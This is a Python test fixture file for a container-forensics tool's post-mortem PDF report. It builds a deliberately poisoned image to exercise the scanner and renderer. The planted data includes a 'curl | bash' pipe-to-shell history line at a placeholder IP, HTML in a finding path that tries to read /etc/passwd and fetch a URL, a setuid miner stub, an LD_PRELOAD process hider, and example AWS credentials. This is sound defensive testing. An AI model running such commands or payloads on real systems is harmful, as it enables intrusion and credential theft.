"""A worked incident for the post-mortem tests: a real archive scanned by the real engine and persisted,
with the narrative written, findings triaged, checklists partly done, timeline entries, and a finding
whose path tries to make the PDF renderer fetch a local file and a URL."""

from __future__ import annotations

import shutil
import subprocess
from dataclasses import dataclass
from pathlib import Path

import pytest

from cases.models import Case, CaseMembership, Role
from scanner.models import Finding, Image
from tests.imagefactory import Entry, build_image

HOSTILE_PATH = '/srv/<img src="file:///etc/passwd"><link href="http://127.0.0.1:1/x">.sh'
HOSTILE_TAG = 'victim/app:<img src="file:///etc/passwd">'
SECRETS = ("AKIAIOSFODNN7EXAMPLE", "hunter2-prod", "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY")


def poisoned_image(path: Path):
    """Three layers: a setuid miner hidden by a whiteout, a pipe-to-shell history, credentials in Env."""
    return build_image(
        path,
        [
            [Entry("etc/", type="dir", mode=0o755), ("etc/os-release", b"ID=debian\n")],
            [
                Entry("usr/bin/", type="dir", mode=0o755),
                Entry("usr/bin/.hidden_miner", b"\x7fELF" + b"\0" * 60, mode=0o4755),
                Entry("etc/ld.so.preload", b"/usr/lib/libprocesshider.so\n"),
            ],
            [Entry("usr/bin/.wh..hidden_miner")],
        ],
        fmt="oci-archive",
        repo_tags=["shop/web:latest", HOSTILE_TAG],
        config={
            "User": "root",
            "Env": [
                "PATH=/usr/bin",
                f"AWS_ACCESS_KEY_ID={SECRETS[0]}",
                f"AWS_SECRET_ACCESS_KEY={SECRETS[2]}",
                f"DB_PASSWORD={SECRETS[1]}",
                "LD_PRELOAD=/usr/lib/libprocesshider.so",
            ],
        },
        history=[
            {"created": "2026-01-05T10:00:00Z", "created_by": "/bin/sh -c #(nop) ADD file:base in /"},
            {
                "created": "2026-01-05T10:03:00Z",
                "created_by": "/bin/sh -c curl -fsSL http://203.0.113.7/i.sh | bash",
            },
            {"created": "2026-01-05T10:04:00Z", "created_by": "/bin/sh -c rm -f /usr/bin/.hidden_miner"},
        ],
    )


@dataclass
class Worked:
    case: Case
    image: Image
    archive_sha256: str
    hostile: Finding


@pytest.fixture
def worked(case, alice, tmp_path) -> Worked:
    from cases.postmortem.sample import work_the_case
    from tests.ui.scenario import scan_in_process

    built = poisoned_image(tmp_path / "shop-web.tar")
    image = scan_in_process(case, alice, built.path)
    hostile = Finding.objects.create(
        case=case,
        scan=image.scan,
        image=image,
        layer=image.layers.order_by("index").last(),
        rule_id="file.hidden-executable",
        severity="high",
        title=f"hidden file {HOSTILE_PATH}",
        detail="planted to test the renderer",
        path=HOSTILE_PATH,
        sha256="c" * 64,
        fingerprint="hostile-path",
    )
    work_the_case(case, alice, timeline=12, triage=20)
    return Worked(case=case, image=image, archive_sha256=image.scan.evidence.sha256, hostile=hostile)


@pytest.fixture
def viewer(worked, make_user):
    user = make_user("victor")
    CaseMembership.objects.create(case=worked.case, user=user, role=Role.VIEWER)
    return user


def pdftotext(data: bytes, tmp_path: Path) -> str:
    """The PDF's text as poppler extracts it (layout order)."""
    if shutil.which("pdftotext") is None:
        pytest.skip("pdftotext (Debian poppler-utils) is not installed; .ci/run installs it")
    pdf = tmp_path / "out.pdf"
    pdf.write_bytes(data)
    result = subprocess.run(["pdftotext", "-enc", "UTF-8", str(pdf), "-"], capture_output=True, check=True)
    return result.stdout.decode()


def squash(text: str) -> str:
    """Text without any whitespace: long values may wrap anywhere on the page."""
    return "".join(text.split())
